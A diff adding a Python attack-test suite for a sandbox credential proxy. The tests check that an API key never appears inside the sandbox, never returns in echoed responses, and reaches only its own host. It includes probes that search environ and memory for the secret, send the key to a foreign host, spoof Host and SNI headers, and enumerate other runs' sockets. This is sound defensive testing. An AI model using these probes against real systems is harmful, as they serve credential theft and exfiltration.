@@ -1,0 +1,142 @@
+"""Invariant 1: no credential in the sandbox, in any form, wherever one looks; invariant 3: only to its host.
+
+How each was shown to fail: with the real secret as the placeholder (providers/anthropic.py) the treasure
+hunt finds it in environ and memory; with the scrubber returning its input the echo brings it back; with
+the host check of the injection table removed the stranger receives it.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+from collections.abc import Callable
+from typing import Any
+
+from tests.attacks.conftest import HOST, OTHER, World
+
+Attacker = Callable[[str, object], dict[str, Any]]
+
+
+def request(path: str, host: str = HOST, fields: str = "", body: str = "") -> str:
+    return (
+        f"POST {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{fields}"
+        f"Content-Length: {len(body)}\r\n\r\n{body}"
+    )
+
+
+def step(name: str, send: str, host: str = HOST, **more: object) -> dict[str, object]:
+    return {"name": name, "connect": f"{host}:443", "tls": host, "send": send, **more}
+
+
+def test_no_place_holds_the_credential(attacker: Attacker, world: World) -> None:
+    found = attacker("treasure", {"needles": {"credential": world.secret}, "since": world.since})
+    assert found["counts"]["processes"] > 0
+    assert found["counts"]["files"] > 3, "the hunt must have read something"
+    assert found["places"]["credential"] == []
+
+
+def test_the_hunt_finds_what_is_there(world: World, runtime: str) -> None:
+    """The control: the placeholder, which is inside on purpose, is found by the same hunt."""
+    done = world.command(
+        "run", str(world.workspace("ws")), "--runtime", runtime, "--grant", "anthropic", "--",
+        "sh", "-c", 'python3 /workspace/treasure.py "$(printf \'{"needles":{"p":"%s"},"since":%s}\' '
+        f'"$ANTHROPIC_API_KEY" {world.since})"',
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    places = json.loads(done.stdout)["places"]["p"]
+    assert any(place.endswith("/environ") for place in places), places
+
+
+def test_an_echo_does_not_bring_it_back(attacker: Attacker, world: World) -> None:
+    """Header and body echo, plain and gzip: the origin got the credential, the sandbox never sees it."""
+    before = len(world.origin.received)
+    marks = {"x-api-key": "sk-placeholder"}
+    fields = "".join(f"{k}: {v}\r\n" for k, v in marks.items())
+    answers = attacker(
+        "through_proxy",
+        [
+            step("plain", request("/plain", fields=fields, body="hello")),
+            step("gzip", request("/gzip", fields=fields + "Accept-Encoding: gzip\r\n", body="hello")),
+        ],
+    )
+    arrived = b"".join(bytes(log) for log in world.origin.received[before:])
+    assert arrived.count(world.secret.encode()) >= 2, "the origin must have received the credential"
+    everything = json.dumps(answers)
+    assert " 200 " in answers["plain"].split("\r\n")[0]
+    assert " 200 " in answers["gzip"].split("\r\n")[0]
+    for form in (world.secret, base64.b64encode(world.secret.encode()).decode(), world.secret[10:40]):
+        assert form not in everything
+
+
+def test_a_stranger_never_gets_it(attacker: Attacker, world: World) -> None:
+    """The placeholder to another host, Host and SNI set to the credential's host, and the other way round."""
+    answers = attacker(
+        "through_proxy",
+        [
+            step("plain stranger", request("/", OTHER), OTHER),
+            step("inner Host is ours", request("/", HOST), OTHER),
+            step("SNI is ours", request("/", OTHER), OTHER, tls=HOST, verify=False),
+            step("Host is theirs", request("/", OTHER), HOST),
+            step("absolute form to ours", request(f"https://{HOST}/", HOST), OTHER),
+            step("two hosts", request("/", HOST, f"Host: {OTHER}\r\n"), OTHER),
+        ],
+    )
+    assert world.secret.encode() not in world.stranger.everything()
+    for name in ("inner Host is ours", "Host is theirs", "absolute form to ours", "two hosts"):
+        assert " 200 " not in answers[name].split("\r\n")[0], (name, answers[name][:200])
+
+
+def test_the_placeholder_to_another_host_is_refused(world: World, runtime: str) -> None:
+    """The leak guard: 403 inside the tunnel with the reason, and nothing reaches the stranger."""
+    before = world.stranger.connections
+    done = world.command(
+        "run", str(world.workspace("ws")), "--runtime", runtime, "--grant", "anthropic", "--",
+        "python3", "-c",
+        "import os,urllib.request as u,urllib.error as e\n"
+        f"r=u.Request('https://{OTHER}/', headers={{'x-api-key': os.environ['ANTHROPIC_API_KEY']}})\n"
+        "try: print(u.urlopen(r).status)\n"
+        "except e.HTTPError as x: print(x.code, x.headers.get('X-Moat-Denied'), x.read().decode())",
+    )  # fmt: skip
+    assert done.stdout.startswith("403 credential-host"), done.stdout + done.stderr
+    assert world.stranger.connections == before
+
+
+def test_plain_http_gets_no_credential(attacker: Attacker, world: World) -> None:
+    before = world.origin.connections
+    answers = attacker(
+        "through_proxy",
+        [
+            {"name": "absolute", "connect": None, "tls": None,
+             "send": f"GET http://{HOST}/ HTTP/1.1\r\nHost: {HOST}\r\nConnection: close\r\n\r\n"},
+            {"name": "tunnel", "connect": f"{HOST}:443", "tls": None, "send": request("/")},
+        ],
+    )  # fmt: skip
+    assert world.origin.connections == before
+    for answer in answers.values():
+        assert world.secret not in answer
+
+
+def test_another_run_has_its_own_credentials(world: World, runtime: str) -> None:
+    """Invariant 7: beside a run that holds the grant, a run without it is not served with the credential."""
+    with world.running(runtime) as other:
+        before = len(world.origin.received)
+        answers = world.probe(runtime, "through_proxy", [step("x", request("/"))], grant=False)
+        assert " 200 " in answers["x"].split("\r\n")[0], answers
+        assert world.secret.encode() not in b"".join(bytes(x) for x in world.origin.received[before:])
+        script = (
+            "import os,socket,json\n"
+            "own={'/run/moat/proxy.sock'}\n"
+            "seen=[os.path.join(t,n) for t,d,f in os.walk('/') if not t.startswith(('/proc','/sys')) for n in f\n"
+            "      if __import__('stat').S_ISSOCK(os.lstat(os.path.join(t,n)).st_mode)]\n"
+            f"hit=[t for t,d,f in os.walk('/') if not t.startswith(('/proc','/sys')) and {other!r} in t]\n"
+            "abstract=[l for l in open('/proc/net/unix') if '@' in l]\n"
+            "print(json.dumps([seen, hit, abstract]))"
+        )
+        done = world.command(
+            "run", str(world.workspace("ws")), "--runtime", runtime, "--", "python3", "-c", script
+        )
+        seen, hit, abstract = json.loads(done.stdout)
+    assert [path for path in seen if "moat" in path and "/run/moat/" not in path] == []
+    assert len(seen) <= 1
+    assert hit == []
+    assert abstract == []
